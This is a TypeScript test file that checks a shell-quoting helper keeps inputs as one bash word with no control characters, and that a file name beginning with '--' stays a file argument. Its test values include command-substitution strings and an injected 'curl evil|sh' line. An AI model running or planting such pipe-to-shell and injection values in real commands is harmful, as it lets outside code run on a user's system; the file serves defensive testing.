import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { sameCommand } from '../../../src/console/pages/new/submit-view.ts';
import { shellWord } from '../../../src/console/parts/text.ts';

test.each([
  'q4',
  'Q4 2026',
  "o'neill",
  '$(id)',
  '`id`',
  'a\\b',
  'a\nb',
  '\u0003\ncurl evil|sh\n',
  "it's\t\\n\u009bM",
  'é …',
])('a shell reads %j as one word, and a terminal as no key', (word) => {
  const written = shellWord(word);
  expect(written).not.toMatch(/\p{Cc}/u);
  const env = { PATH: process.env.PATH, LC_ALL: 'C.UTF-8' };
  expect(
    execFileSync('bash', ['--norc', '-c', `printf %s ${written}`], {
      env,
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    }),
  ).toBe(word);
});

test('a file whose name begins like an option is a file', () => {
  const draft = { name: '--yes.csv', portfolio: 'yes', reading: {}, documents: [], isArchive: false };
  expect(sameCommand(draft as unknown as Parameters<typeof sameCommand>[0])).toBe(
    'npx limitline run ./--yes.csv --portfolio yes',
  );
});
